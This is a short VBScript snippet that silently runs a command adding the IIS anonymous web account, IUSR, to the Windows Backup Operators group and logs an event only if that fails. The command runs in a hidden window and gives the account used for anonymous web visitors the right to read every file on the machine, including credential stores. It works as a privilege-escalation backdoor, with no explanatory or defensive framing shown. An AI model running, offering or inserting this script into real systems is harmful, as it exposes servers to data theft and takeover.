With WScript.CreateObject("WScript.Shell")
  If .Run("cmd /c net localgroup ""Backup Operators"" IUSR /add", 0, True) <> 0 Then
    .LogEvent 1, "failed"
  End If
End With
